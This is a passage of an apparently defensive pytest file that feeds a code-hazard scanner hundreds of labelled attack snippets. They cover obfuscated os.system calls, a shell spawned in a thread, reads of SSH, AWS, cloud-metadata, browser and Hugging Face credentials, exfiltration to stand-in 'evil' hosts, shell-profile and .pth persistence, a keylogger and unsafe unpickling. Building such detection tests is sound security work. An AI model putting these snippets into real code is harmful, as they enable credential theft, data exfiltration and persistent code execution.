"""Forms in which code hides what it does, as attackers write them, and honest forms like them."""

from __future__ import annotations

import pytest

from tests.test_hazards import found, row, worst

ATTACKS = [
    row(
        "import threading, os\nclass M:\n    def __init__(self):\n"
        "        threading.Thread(target=self._beat, daemon=True).start()\n"
        '    def _beat(self):\n        os.popen("sh")\nM()',
        "process",
        id="revshell-thread-method",
    ),
    row(
        "import os\nclass A: go = os.system\ndef f(x): A.go(x)",
        "process",
        id="class-attr",
    ),
    row(
        'class A: m = __import__("os")\ngetattr(A.m, "sys"+"tem")("id")',
        "concealed-name",
        "process",
        id="getattr-class",
    ),
    row(
        'class A:\n    m = __import__\nA.m("o"+"s").system("id")',
        "concealed-name",
        "process",
        id="class-of-modules",
    ),
    row(
        "import importlib\nclass A:\n    def __init__(self):\n"
        '        self.o = importlib.import_module("o"+"s")\n    def f(self):\n'
        '        self.o.system("id")',
        "concealed-name",
        "process",
        id="self-module",
    ),
    row(
        'import os\nd = {"a": os}\nd["a"].system("id")',
        "concealed-name",
        id="dict-alias",
    ),
    row(
        'import os\nd = [os]\nd[0].system("id")',
        "concealed-name",
        id="list-alias",
    ),
    row(
        'import os\n(os,)[0].system("id")',
        "concealed-name",
        id="tuple-alias",
    ),
    row(
        'import os\nfor m in [os]: m.system("id")',
        "concealed-name",
        id="loop-alias",
    ),
    row(
        'import os\n[m.system("id") for m in (os,)]',
        "concealed-name",
        id="comp-alias",
    ),
    row(
        'import os\na, *b = os, os\nb[0].system("x")',
        "concealed-name",
        id="star-assign",
    ),
    row(
        'import os, contextlib\nwith contextlib.nullcontext(os) as m: m.system("x")',
        "concealed-name",
        id="with-alias",
    ),
    row(
        'import os\nmatch os:\n    case m: m.system("id")',
        "concealed-name",
        id="match-alias",
    ),
    row(
        'import os\nmatch [os]:\n    case [m]: m.system("id")',
        "concealed-name",
        id="match-class",
    ),
    row(
        'import os\ndef f(m=os): m.system("id")\nf()',
        "concealed-name",
        id="param-default",
    ),
    row(
        'import os\ndef f(m): m.system("id")\nf(os)',
        "concealed-name",
        id="param-passed",
    ),
    row(
        'import os\n(lambda m: m.system("id"))(os)',
        "concealed-name",
        id="lambda-passed",
    ),
    row(
        '(lambda i: (lambda o: o.system("id"))(i("os")))(__import__)',
        "concealed-name",
        id="lambda-chain",
    ),
    row(
        'def m():\n    import os\n    return os\nm().system("id")',
        "concealed-name",
        id="return-module",
    ),
    row(
        'def init():\n    global o\n    import os as o\ninit()\no.system("id")',
        "process",
        id="global-module",
    ),
    row(
        "def f():\n    o = None\n    def g():\n        nonlocal o\n        import os as o\n"
        '    g()\n    o.system("id")',
        "process",
        id="nonlocal",
    ),
    row(
        'import os, types\nns = types.SimpleNamespace(o=os)\nns.o.system("id")',
        "concealed-name",
        id="simplenamespace-module",
    ),
    row(
        'import torch, os\ntorch.o = os\ntorch.o.system("id")',
        "concealed-name",
        id="attr-of-module-object",
    ),
    row(
        'import torch\ntorch.os.system("id")',
        "process",
        id="transitive-os",
    ),
    row(
        'import shutil\nshutil.os.system("id")',
        "process",
        id="transitive-os-2",
    ),
    row(
        'import logging\nlogging.os.system("id")',
        "process",
        id="transitive-sys",
    ),
    row(
        'from shutil import os\nos.system("id")',
        "process",
        id="from-transitive",
    ),
    row(
        'from glob import os as g\ng.system("id")',
        "process",
        id="from-transitive-2",
    ),
    row(
        'from transformers.utils.hub import subprocess as sp\nsp.run("x")',
        "process",
        id="from-tf",
    ),
    row(
        'import random\nrandom._os.system("id")',
        "process",
        id="random-os",
    ),
    row(
        'import sys\nsys.modules.get("os").system("id")',
        "process",
        id="getattr-sys-modules",
    ),
    row(
        'import sys\nsys.modules.__getitem__("os").system("id")',
        "process",
        id="sys-modules-getitem",
    ),
    row(
        'globals().get("__builtins__").get("eval")("1")',
        "code-from-text",
        "concealed-name",
        id="globals-builtins-get",
    ),
    row(
        '__builtins__.get("exec")("1")',
        "code-from-text",
        "concealed-name",
        id="builtins-get",
    ),
    row(
        'import builtins as b\nvars(b).get("exec")("1")',
        "code-from-text",
        "concealed-name",
        id="vars-builtins",
    ),
    row(
        'import builtins\nbuiltins.__getattribute__("exec")("1")',
        "code-from-text",
        "concealed-name",
        id="builtins-getattribute",
    ),
    row(
        'import os\nobject.__getattribute__(os, "system")("1")',
        "concealed-name",
        "process",
        id="object-getattribute",
    ),
    row(
        'import os\nos.__getattribute__("sys"+"tem")("1")',
        "concealed-name",
        "process",
        id="os-getattribute",
    ),
    row(
        'import os\nos.__dict__.get("system")("1")',
        "concealed-name",
        "process",
        id="os-dict-get",
    ),
    row(
        'import operator, os\ng = operator.attrgetter("system")\ng(os)("id")',
        "concealed-name",
        id="attrgetter-named",
    ),
    row(
        'import operator, os\noperator.methodcaller("system", "id")(os)',
        "concealed-name",
        id="methodcaller",
    ),
    row(
        'import operator, os\ng = operator.methodcaller("sys"+"tem", "id")\ng(os)',
        "concealed-name",
        id="methodcaller-named",
    ),
    row(
        'import operator, os\noperator.itemgetter("system")(vars(os))("id")',
        "concealed-name",
        id="itemgetter",
    ),
    row(
        'import functools, os\nf = functools.partial(getattr, os)\nf("system")("id")',
        "concealed-name",
        id="partial-getattr",
    ),
    row(
        'import os\nlist(map(getattr, [os], ["system"]))[0]("id")',
        "concealed-name",
        id="map-getattr",
    ),
    row(
        'import codecs\n__import__(codecs.encode("bf", "rot13")).system("x")',
        "concealed-name",
        "decoded-code",
        "process",
        id="import-rot13-enc",
    ),
    row(
        '__import__("{}{}".format("o","s")).system("x")',
        "concealed-name",
        "process",
        id="import-format",
    ),
    row(
        '__import__("%s%s" % ("o","s")).system("x")',
        "concealed-name",
        "process",
        id="import-percent",
    ),
    row(
        '__import__("o"*1+"s"*1).system("x")',
        "concealed-name",
        "process",
        id="import-mul",
    ),
    row(
        '__import__("xosx"[1:3]).system("x")',
        "concealed-name",
        "process",
        id="import-slice",
    ),
    row(
        '__import__("o_s_"[::2]).system("x")',
        "concealed-name",
        "process",
        id="import-step",
    ),
    row(
        's="subos"\n__import__(s[3]+s[4]).system("x")',
        "concealed-name",
        "process",
        id="import-index",
    ),
    row(
        '__import__("".join(chr(c) for c in [111,115])).system("x")',
        "concealed-name",
        "decoded-code",
        "process",
        id="import-join-gen",
    ),
    row(
        '__import__("".join([chr(c) for c in (111,115)])).system("x")',
        "concealed-name",
        "decoded-code",
        "process",
        id="import-join-list",
    ),
    row(
        '__import__("".join(chr(c-1) for c in [112,116])).system("x")',
        "decoded-code",
        "dynamic-import",
        "process",
        id="import-join-shift",
    ),
    row(
        '__import__("bf".translate(str.maketrans("bf","os"))).system("x")',
        "decoded-code",
        "dynamic-import",
        "process",
        id="import-translate",
    ),
    row(
        'def f(n): return __import__(n).system("x")',
        "process",
        id="import-unknown-attr",
    ),
    row(
        'import importlib\ndef f(n): return importlib.import_module(n).system("x")',
        "process",
        id="import-module-unknown-attr",
    ),
    row(
        '__import__(name="os").system("x")',
        "concealed-name",
        "process",
        id="import-kw",
    ),
    row(
        'import importlib\nimportlib.import_module(name="os").system("x")',
        "concealed-name",
        "process",
        id="import_module-kw",
    ),
    row(
        'import importlib\nimportlib.__import__("os").system("x")',
        "concealed-name",
        "process",
        id="importlib-import",
    ),
    row(
        'import importlib\nimportlib._bootstrap._gcd_import("os").system("x")',
        "concealed-name",
        "process",
        id="importlib-bootstrap",
    ),
    row(
        "import importlib.util\n"
        'm = importlib.util.find_spec("os").loader.load_module("os")\nm.system("id")',
        "concealed-name",
        "process",
        id="importlib-find-loader",
    ),
    row(
        '().__class__.__base__.__subclasses__()[104]().load_module("os").system("x")',
        "concealed-name",
        id="builtinimporter",
    ),
    row(
        '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("id")',
        "concealed-name",
        id="subclasses",
    ),
    row(
        '"".__class__.__mro__[1].__subclasses__()',
        "concealed-name",
        id="mro-subclasses",
    ),
    row(
        'import torch\ngetattr(torch.load, "__glo"+"bals__")["os"].system("x")',
        "concealed-name",
        id="getattr-globals",
    ),
    row(
        'def f(): pass\nf.__builtins__["eval"]("x")',
        "concealed-name",
        id="func_builtins",
    ),
    row(
        'import sys\nsys._getframe().f_builtins["eval"]("x")',
        "concealed-name",
        id="frame-builtins",
    ),
    row(
        'import sys\nsys._getframe(1).f_globals["os"].system("x")',
        "concealed-name",
        id="frame-globals",
    ),
    row(
        'import inspect\ninspect.currentframe().f_builtins["exec"]("x")',
        "concealed-name",
        id="inspect-frame",
    ),
    row(
        '__loader__.load_module("os").system("x")',
        "concealed-name",
        "process",
        id="self-loader",
    ),
    row(
        'import importlib.util as u\nu.spec_from_loader("x", L())',
        "further-code",
        id="spec-loader",
    ),
    row(
        "import asyncio\nasync def f():\n"
        '    await asyncio.get_event_loop().subprocess_shell(lambda: None, "x")',
        "process",
        id="loop-sub",
    ),
    row(
        "import asyncio\nasync def f():\n    loop = asyncio.get_running_loop()\n"
        '    await loop.subprocess_exec(P, "x")',
        "process",
        id="loop-sub-2",
    ),
    row(
        'import multiprocessing\nmultiprocessing.set_executable("/tmp/x")',
        "process",
        id="mp-executable",
    ),
    row(
        'import multiprocessing.util\nmultiprocessing.util.spawnv_passfds(b"/bin/sh", ["sh"], [])',
        "process",
        id="mp-popen",
    ),
    row(
        'import platform\nplatform.popen("id")',
        "process",
        id="platform-popen",
    ),
    row(
        'import sh\nsh.bash("-c", "id")',
        "process",
        id="commands-lib",
    ),
    row(
        'from sh import curl\ncurl("x")',
        "process",
        id="sh-from",
    ),
    row(
        'from plumbum import local\nlocal["sh"]()',
        "process",
        id="plumbum",
    ),
    row(
        'import invoke\ninvoke.run("id")',
        "process",
        id="invoke",
    ),
    row(
        'import fabric\nfabric.Connection("h").run("id")',
        "process",
        id="fabric",
    ),
    row(
        'from IPython import get_ipython\nget_ipython().system("id")',
        "process",
        id="ipython",
    ),
    row(
        'from distutils.spawn import spawn\nspawn(["id"])',
        "process",
        id="distutils-spawn",
    ),
    row(
        'from setuptools._distutils.spawn import spawn\nspawn(["id"])',
        "process",
        id="setuptools-distutils",
    ),
    row(
        'from numpy.distutils.exec_command import exec_command\nexec_command("id")',
        "process",
        id="numpy-exec",
    ),
    row(
        'import timeit\ntimeit.timeit("import os; os.system(1)")',
        "code-from-text",
        id="timeit",
    ),
    row(
        'import timeit\ntimeit.Timer("x").timeit()',
        "code-from-text",
        id="timeit-timer",
    ),
    row(
        'import cProfile\ncProfile.run("x")',
        "code-from-text",
        id="cprofile",
    ),
    row(
        'import profile\nprofile.run("x")',
        "code-from-text",
        id="profile",
    ),
    row(
        'import pdb\npdb.run("x")',
        "code-from-text",
        id="pdb-run",
    ),
    row(
        'import bdb\nbdb.Bdb().run("x")',
        "code-from-text",
        id="bdb-run",
    ),
    row(
        'import trace\ntrace.Trace().run("x")',
        "code-from-text",
        id="trace-run",
    ),
    row(
        'import pandas as pd\npd.eval("@x", engine="python")',
        "code-from-text",
        id="pandas-eval",
    ),
    row(
        'from sympy import sympify\nsympify("x")',
        "code-from-text",
        id="sympify",
    ),
    row(
        'import torch.fx\ntorch.fx.graph_module._exec_with_source("x", {})',
        "code-from-text",
        id="torch-fx",
    ),
    row(
        'f = type(lambda: 0)\nf(x.__code__.replace(co_code=b"x"), globals())()',
        "code-from-text",
        id="type-lambda",
    ),
    row("type(lambda: 0)(c, {})", "code-from-text", id="type-of-a-lambda"),
    row(
        'def f(): pass\nf.__code__ = g.__code__.replace(co_code=b"x")',
        "code-from-text",
        id="code-replace",
    ),
    row(
        "import types\ntypes.FunctionType(c, {})()",
        "code-from-text",
        id="functiontype",
    ),
    row(
        'import codeop\ncodeop.compile_command("x")',
        "code-from-text",
        id="codeop",
    ),
    row(
        'exec((12345).to_bytes(20, "big"))',
        "code-from-text",
        "decoded-code",
        id="int-to-bytes",
    ),
    row(
        'exec(bytes(int(x, 16) for x in "61 62".split()))',
        "code-from-text",
        id="int-from-str",
    ),
    row(
        "exec(bytes([112, 97, 115, 115]))",
        "code-from-text",
        id="bytes-list",
    ),
    row(
        'import codecs\nexec(codecs.encode("vzcbeg bf", "rot13"))',
        "code-from-text",
        "decoded-code",
        id="codecs-encode",
    ),
    row(
        'exec("abc".translate(t))',
        "code-from-text",
        "decoded-code",
        id="translate-exec",
    ),
    row(
        "from huggingface_hub import hf_hub_download\n"
        'exec(open(hf_hub_download("a/b", "c")).read())',
        "code-from-text",
        "decoded-code",
        id="exec-hub",
    ),
    row(
        'import torch\ntorch.load("x.bin", **{"weights_only": False})',
        "unpickling",
        id="torch-load-kwargs",
    ),
    row(
        'import torch\ntorch.load("x.bin", weights_only=0)',
        "unpickling",
        id="torch-load-zero",
    ),
    row(
        'import torch\ntorch.load("x.bin", weights_only=not True)',
        "unpickling",
        id="torch-load-none",
    ),
    row(
        'import torch\nW = False\ntorch.load("x.bin", weights_only=W)',
        "unpickling",
        id="torch-load-named",
    ),
    row(
        'import torch, pickle\ntorch.load("x", pickle_module=pickle)',
        "unpickling",
        id="torch-load-pickle-module",
    ),
    row(
        'import torch, functools\nfunctools.partial(torch.load, weights_only=False)("x")',
        "default-unpickling",
        "unpickling",
        id="torch-load-partial",
    ),
    row(
        'import torch\ntorch.serialization.load("x", weights_only=False)',
        "unpickling",
        id="torch-serialization",
    ),
    row(
        'from torch.serialization import load\nload("x", weights_only=False)',
        "unpickling",
        id="torch-from-serial",
    ),
    row(
        'import os\nos.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"] = "1"',
        "unpickling",
        id="torch-env-force",
    ),
    row(
        'import numpy\nnumpy.load("x", allow_pickle=1)',
        "unpickling",
        id="np-load-numpy",
    ),
    row(
        'import numpy\nnumpy.load("x", None, True)',
        "unpickling",
        id="np-positional",
    ),
    row(
        'import keras\nkeras.models.load_model("x", safe_mode=False)',
        "unpickling",
        id="tf-lambda",
    ),
    row(
        "import keras\nkeras.config.enable_unsafe_deserialization()",
        "unpickling",
        id="keras-unsafe",
    ),
    row(
        'import multiprocessing.reduction as r\nr.ForkingPickler.loads(b"x")',
        "unpickling",
        id="copyreg",
    ),
    row(
        'from multiprocessing.connection import Client\nClient(("1.2.3.4", 1)).recv()',
        "raw-network",
        id="mp-connection",
    ),
    row(
        'from multiprocessing.managers import BaseManager\nBaseManager(("1.2.3.4", 1)).connect()',
        "raw-network",
        id="mp-managers",
    ),
    row(
        "import logging.config\nlogging.config.listen(9999)",
        "raw-network",
        id="logging-config",
    ),
    row(
        'import logging.handlers\nlogging.handlers.HTTPHandler("evil", "/")',
        "sending",
        id="logging-http",
    ),
    row(
        'import logging.handlers\nlogging.handlers.SocketHandler("evil", 1)',
        "raw-network",
        id="logging-socket",
    ),
    row(
        'import logging.handlers as h\nh.SMTPHandler("evil", "a", "b", "c")',
        "raw-network",
        id="logging-smtp",
    ),
    row(
        'import atexit, os\n@atexit.register\ndef f(): os.system("id")',
        "process",
        id="atexit-fn",
    ),
    row(
        'import atexit, os\natexit.register(lambda: os.system("id"))',
        "process",
        id="atexit-lambda",
    ),
    row(
        'import threading, os\nthreading.Thread(target=lambda: os.system("id")).start()',
        "process",
        id="thread-lambda",
    ),
    row(
        "import threading, os\nclass T(threading.Thread):\n"
        '    def run(self): os.system("id")\nT().start()',
        "process",
        id="thread-subclass",
    ),
    row(
        'import os\nclass A:\n    def __init_subclass__(cls): os.system("id")\nclass B(A): pass',
        "process",
        id="init-subclass",
    ),
    row(
        'import os\nclass D:\n    def __set_name__(self, o, n): os.system("id")\nclass B:\n'
        "    d = D()",
        "process",
        id="set-name",
    ),
    row(
        "import os\nclass M(type):\n"
        '    def __new__(m, *a): os.system("id"); return super().__new__(m, *a)\n'
        "class B(metaclass=M): pass",
        "process",
        id="metaclass-new",
    ),
    row(
        "import os\nclass M(type):\n    @classmethod\n"
        '    def __prepare__(m, *a): os.system("id"); return {}\nclass B(metaclass=M): pass',
        "process",
        id="metaclass-prepare",
    ),
    row(
        'import os\ndef d(n):\n    def w(c): os.system("id"); return c\n    return w\n'
        "@d(1)\nclass B: pass",
        "process",
        id="decorator-factory",
    ),
    row(
        'import os\nclass A:\n    @staticmethod\n    def go(): os.system("id")\nA.go()',
        "process",
        id="static-called",
    ),
    row(
        'import os\nclass A:\n    def go(self): os.system("id")\nA().go()',
        "process",
        id="method-called",
    ),
    row(
        "import os\nclass A:\n    def __init__(self): self._go()\n"
        '    def _go(self): os.system("id")\nA()',
        "process",
        id="init-calls-method",
    ),
    row(
        'import os\nclass A:\n    def __call__(self): os.system("id")\nA()()',
        "process",
        id="instance-called",
    ),
    row(
        'import os\nclass A:\n    def __enter__(self): os.system("id")\n'
        "    def __exit__(self, *a): pass\nwith A(): pass",
        "process",
        id="enter",
    ),
    row(
        'import os\n(lambda: os.system("id"))()',
        "process",
        id="lambda-iife",
    ),
    row(
        'import os\nf = lambda: os.system("id")\nf()',
        "process",
        id="lambda-named-called",
    ),
    row(
        'import os\ndef f(): os.system("id")\ng = f\ng()',
        "process",
        id="func-alias-called",
    ),
    row(
        'import os\ndef f(): os.system("id")\n{"a": f}["a"]()',
        "process",
        id="func-dict-called",
    ),
    row(
        'import re, os\nre.sub("x", lambda m: os.system("id"), "x")',
        "process",
        id="re-sub",
    ),
    row(
        "import sys\nsys.settrace(lambda *a: None)",
        "patching",
        id="settrace",
    ),
    row(
        "import sys\nsys.setprofile(lambda *a: None)",
        "patching",
        id="setprofile",
    ),
    row(
        "import threading\nthreading.settrace(f)",
        "patching",
        id="threading-settrace",
    ),
    row(
        "import sys\nsys.addaudithook(f)",
        "patching",
        id="addaudithook",
    ),
    row(
        "import sys\nsys.excepthook = f",
        "patching",
        id="excepthook",
    ),
    row(
        "import sys\nsys.meta_path.insert(0, F())",
        "patching",
        id="meta_path",
    ),
    row(
        "import sys\nsys.path_hooks.append(F)",
        "patching",
        id="path_hooks",
    ),
    row(
        'import sys\nsys.modules["torch"] = object()',
        "patching",
        id="sys-modules-replace",
    ),
    row(
        "import builtins\nbuiltins.open = evil",
        "patching",
        id="builtins-patch",
    ),
    row(
        "import builtins\nbuiltins.__import__ = evil",
        "patching",
        id="builtins-import-patch",
    ),
    row(
        "import gc\ngc.callbacks.append(f)",
        "patching",
        id="gc-hook",
    ),
    row(
        'import signal, os\nsignal.signal(signal.SIGTERM, lambda *a: os.system("id"))',
        "process",
        id="signal",
    ),
    row(
        'import site\nsite.addsitedir("/tmp/x")',
        "patching",
        id="site-addsitedir",
    ),
    row(
        'import requests\ns = requests.Session()\ndef f(): s.post("http://x", data=1)',
        "network",
        "sending",
        id="requests-session-post",
    ),
    row(
        'import requests\ndef f(): requests.request("POST", "http://x", data=1)',
        "sending",
        id="requests-request-post",
    ),
    row(
        'import httpx\ndef f():\n    with httpx.Client() as c: c.post("http://x", json=1)',
        "sending",
        id="httpx-client-post",
    ),
    row(
        "import httpx\nasync def f():\n"
        '    async with httpx.AsyncClient() as c: await c.post("http://x", json=1)',
        "sending",
        id="httpx-async-post",
    ),
    row(
        "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n"
        '        async with s.post("http://x", json=1) as r: pass',
        "sending",
        id="aiohttp-post",
    ),
    row(
        'import urllib.request as u\ndef f(d): u.urlopen(u.Request("http://x", data=d))',
        "sending",
        id="urllib-request-obj",
    ),
    row(
        "import urllib.request as u\ndef f(d):\n"
        '    r = u.Request("http://x", method="POST")\n    r.data = d\n    u.urlopen(r)',
        "sending",
        id="urllib-request-post",
    ),
    row(
        'import urllib3\ndef f(): urllib3.PoolManager().request("POST", "http://x", body=b"1")',
        "sending",
        id="urllib3-post",
    ),
    row(
        'import urllib3\ndef f(): urllib3.request("POST", "http://x", fields={})',
        "sending",
        id="urllib3-request",
    ),
    row(
        "import http.client\ndef f():\n"
        '    c = http.client.HTTPSConnection("x"); c.request("POST", "/", "d")',
        "sending",
        id="httpclient-post",
    ),
    row(
        'import socket\nsocket.gethostbyname_ex("secret.evil.com")',
        "raw-network",
        id="socket-dns-ex",
    ),
    row(
        "from socket import SocketType as S\nS()",
        "raw-network",
        id="socket-type",
    ),
    row(
        "import asyncio\n"
        'async def f(): await asyncio.get_event_loop().create_connection(P, "x", 1)',
        "raw-network",
        id="loop-conn",
    ),
    row(
        'from websockets.sync.client import connect\nconnect("ws://x")',
        "raw-network",
        id="websockets-client",
    ),
    row(
        'import zmq\nzmq.Context().socket(zmq.REQ).connect("tcp://x:1")',
        "raw-network",
        id="zmq",
    ),
    row(
        'import boto3\nboto3.client("s3").put_object(Bucket="x", Key="y", Body=b"z")',
        "sending",
        id="boto3",
    ),
    row(
        'import discord_webhook\ndiscord_webhook.DiscordWebhook(url="x").execute()',
        "sending",
        id="discord",
    ),
    row(
        'import telebot\ntelebot.TeleBot("x").send_message(1, "x")',
        "sending",
        id="telegram",
    ),
    row(
        "from huggingface_hub import HfApi\n"
        'HfApi().upload_file(path_or_fileobj="x", path_in_repo="x", repo_id="a/b")',
        "sending",
        id="hf-upload",
    ),
    row(
        "from huggingface_hub import upload_folder\n"
        'upload_folder(folder_path="/root", repo_id="a/b")',
        "sending",
        id="hf-upload-folder",
    ),
    row(
        "from huggingface_hub import whoami\nwhoami()",
        "credentials",
        id="hf-whoami",
    ),
    row(
        "from huggingface_hub._login import get_token\nget_token()",
        "credentials",
        id="hf-auth",
    ),
    row(
        "from huggingface_hub.utils._auth import get_token\nget_token()",
        "credentials",
        id="hf-utils-auth",
    ),
    row(
        "from huggingface_hub.utils import get_stored_tokens\nget_stored_tokens()",
        "credentials",
        id="hf-stored-tokens",
    ),
    row(
        "from huggingface_hub.utils import build_hf_headers\nbuild_hf_headers()",
        "credentials",
        id="hf-headers",
    ),
    row(
        "import os\n"
        'open(os.path.join(os.path.expanduser("~"), ".cache", "huggingface", "token")).read()',
        "credentials",
        id="hf-path-parts",
    ),
    row(
        'from pathlib import Path\n(Path.home() / ".cache" / "huggingface" / "token").read_text()',
        "credentials",
        id="hf-path-pathlib",
    ),
    row(
        'import os\nh = os.environ.get("HF_HOME")\nopen(h + "/token").read()',
        "credentials",
        id="hf-path-joined",
    ),
    row(
        'import os\nopen(os.path.expanduser("~/.a" + "ws/cred" + "entials")).read()',
        "credentials",
        id="aws-split",
    ),
    row(
        'import os, base64\nopen(base64.b64decode("L3Jvb3QvLmF3cy9jcmVkZW50aWFscw==")).read()',
        "credentials",
        id="aws-b64",
    ),
    row(
        'open(b"/root/.ssh/id_rsa").read()',
        "credentials",
        id="bytes-path",
    ),
    row(
        "import os\n"
        'open(os.path.join(h, ".config", "gcloud", "application_default_credentials.json"))',
        "credentials",
        id="gcloud-parts",
    ),
    row(
        "import requests\n"
        'requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/")',
        "credentials",
        "network",
        id="imds",
    ),
    row(
        "import requests\n"
        'def f(): requests.get("http://metadata.google.internal/computeMetadata'
        '/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"})',
        "credentials",
        id="imds-gcp",
    ),
    row(
        'open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()',
        "credentials",
        id="k8s-token",
    ),
    row(
        'import os\nopen(os.path.expanduser("~/.config/google-chrome/Default/Login Data"),"rb")',
        "credentials",
        id="chrome",
    ),
    row(
        "import os\n"
        'os.path.join(os.environ["LOCALAPPDATA"], "Google\\\\Chrome\\\\User Data\\\\D'
        'efault\\\\Login Data")',
        "credentials",
        id="chrome-win",
    ),
    row(
        'import glob, os\nglob.glob(os.path.expanduser("~/.mozilla/firefox/*/logins.json"))',
        "credentials",
        id="firefox",
    ),
    row(
        'p = "\\\\discord\\\\Local Storage\\\\leveldb"',
        "credentials",
        id="discord-leveldb",
    ),
    row(
        'import os\nos.listdir(os.path.expanduser("~/.ethereum/keystore"))',
        "credentials",
        id="metamask",
    ),
    row(
        "import os\n[os.environ[k] for k in os.environ.keys()]",
        "environment",
        id="env-keys-values",
    ),
    row(
        "import os\ndict(os.environb)",
        "environment",
        id="env-environb",
    ),
    row(
        "import os\nos.environ._data",
        "environment",
        id="env-data",
    ),
    row(
        "import posix\nposix.environ",
        "environment",
        id="env-posix",
    ),
    row(
        "import os\nclass A: pass\nA.e = os.environ\nA.f = str(A.e)",
        "environment",
        id="env-attr",
    ),
    row(
        'import os\nfor n in ("HF_TOKEN", "OPENAI_API_KEY"): os.environ.get(n)',
        "credentials",
        id="env-secret-loop",
    ),
    row(
        'import os\n{n: os.getenv(n) for n in ["HF_TOKEN", "AWS_SECRET_ACCESS_KEY"]}',
        "credentials",
        id="env-secret-comp",
    ),
    row(
        'import os\nlist(map(os.getenv, ["HF_TOKEN"]))',
        "credentials",
        id="env-secret-map",
    ),
    row(
        'import os\nos.getenvb(b"HF_TOKEN")',
        "credentials",
        id="env-getenvb",
    ),
    row(
        'import os\nos.environ.setdefault("HF_TOKEN", "")',
        "credentials",
        id="env-secret-setdefault",
    ),
    row(
        'import os\nos.environ.__getitem__("HF_TOKEN")',
        "credentials",
        id="env-secret-dunder",
    ),
    row(
        'import os\nos.path.expandvars("$HF_TOKEN")',
        "credentials",
        id="env-expandvars",
    ),
    row(
        "from pynput import keyboard\nkeyboard.Listener(on_press=f).start()",
        "credentials",
        id="keylogger",
    ),
    row(
        'import win32crypt\nwin32crypt.CryptUnprotectData(b"x")',
        "credentials",
        id="win32crypt",
    ),
    row(
        'import os\nopen("%s/.bashrc" % os.environ["HOME"], "a").write("x")',
        "write-outside",
        id="bashrc-percent",
    ),
    row(
        'import os\nopen("{}/.bashrc".format(os.path.expanduser("~")), "a").write("x")',
        "write-outside",
        id="bashrc-format",
    ),
    row(
        "import os\n"
        'fd = os.open(os.path.expanduser("~/.bashrc"), os.O_WRONLY | os.O_APPEND)\n'
        'os.write(fd, b"x")',
        "write-outside",
        id="bashrc-os-open",
    ),
    row(
        'import os\ndef w(p):\n    with open(p, "a") as f: f.write("x")\n'
        'w(os.path.expanduser("~/.bashrc"))',
        "write-outside",
        id="bashrc-fn",
    ),
    row(
        'import os\nfor p in ("~/.bashrc", "~/.zshrc"):\n'
        '    open(os.path.expanduser(p), "a").write("x")',
        "write-outside",
        id="bashrc-loop",
    ),
    row(
        'import os\ndef f(m): open(os.path.expanduser("~/.bashrc"), m)',
        "write-outside",
        id="bashrc-modevar",
    ),
    row(
        "from crontab import CronTab\nCronTab(user=True)",
        "write-outside",
        id="crontab-lib",
    ),
    row(
        'import site\nopen(site.getsitepackages()[0] + "/x.pth", "w").write("import os")',
        "write-outside",
        id="pth-site",
    ),
    row(
        "import sysconfig, os\n"
        'open(os.path.join(sysconfig.get_paths()["purelib"], "x.pth"), "w").write("x")',
        "write-outside",
        id="pth-sysconfig",
    ),
    row(
        "import torch, os\n"
        'open(os.path.join(os.path.dirname(torch.__file__), "x.py"), "w").write("x")',
        "write-outside",
        id="pth-torchfile",
    ),
    row(
        'import site\nopen(f"{site.USER_SITE}/usercustomize.py", "w").write("x")',
        "write-outside",
        id="pth-usersite",
    ),
    row(
        "import site, pathlib\n"
        'pathlib.Path(site.getusersitepackages(), "usercustomize.py").write_text("x")',
        "write-outside",
        id="sitecustomize",
    ),
    row(
        'import sys, os\nopen(os.path.join(sys.prefix, "x"), "w")',
        "write-outside",
        id="prefix",
    ),
    row(
        'import numpy as np\nnp.array([1]).tofile("/root/.bashrc")',
        "write-outside",
        id="np-tofile",
    ),
    row(
        'import winreg\nwinreg.SetValueEx(k, "x", 0, winreg.REG_SZ, "x")',
        "write-outside",
        id="winreg",
    ),
    row(
        'import tarfile\ntarfile.open("x").extractall("/")',
        "write-outside",
        id="tar-extract",
    ),
    row(
        'import zipfile\nzipfile.ZipFile("x").extractall(path="/usr")',
        "write-outside",
        id="zip-extract",
    ),
    row(
        'import shutil\nshutil.copy("x", dst="/usr/bin/x")',
        "write-outside",
        id="shutil-dst-kw",
    ),
    row(
        'open(file="/etc/x", mode="w")',
        "write-outside",
        id="open-file-kw",
    ),
    row(
        'import ctypes\nctypes.LibraryLoader(x).LoadLibrary("y")',
        "native-code",
        id="ctypes-libloader",
    ),
    row(
        'import numpy as np\nnp.ctypeslib.ctypes.CDLL("x")',
        "native-code",
        id="ctypes-npctypes",
    ),
    row(
        "import mmap\nmmap.mmap(-1, 4096, prot=mmap.PROT_READ|mmap.PROT_WRITE|mmap.PROT_EXEC)",
        "native-code",
        id="mmap-exec",
    ),
    row(
        "import _imp\n_imp.create_dynamic(s)",
        "native-code",
        id="imp-dynamic",
    ),
    row(
        'import tensorflow as tf\ntf.load_op_library("x.so")',
        "native-code",
        id="tf-load-op",
    ),
    row(
        'import sqlite3\nsqlite3.connect(":memory:").load_extension("x")',
        "native-code",
        id="sqlite-ext",
    ),
    row(
        'from setuptools.command.easy_install import main\nmain(["x"])',
        "process",
        id="easy-install",
    ),
    row(
        "import importlib.abc\nclass L(importlib.abc.SourceLoader): pass",
        "further-code",
        id="source-loader-sub",
    ),
    row(
        'from torch.package import PackageImporter as P\nP("x.pt").load_pickle("a", "b")',
        "unpickling",
        id="torch-package",
    ),
    row(
        "from transformers.dynamic_module_utils import get_class_from_dynamic_module as g\n"
        'g("m.C", "evil/x")',
        "further-code",
        id="dynmod",
    ),
    row(
        "from diffusers.utils.dynamic_modules_utils import get_class_from_dynamic_module as g\n"
        'g("evil/x", "m.py")',
        "further-code",
        id="diff-dynmod",
    ),
    row(
        'from kernels import get_kernel\nget_kernel("evil/x")',
        "further-code",
        id="kernels",
    ),
    row(
        '__name__ = "__main__"\nif __name__ == "__main__":\n    import os; os.system("id")',
        "process",
        id="main-rebound",
    ),
    row(
        'globals()["__name__"] = "__main__"\nif __name__ == "__main__":\n'
        '    import os; os.system("id")',
        "process",
        id="main-rebound-2",
    ),
    row(
        'import os\n[v for k, v in os.__dict__.items() if k.endswith("stem")][0]("id")',
        "concealed-name",
        id="dict-search",
    ),
    row(
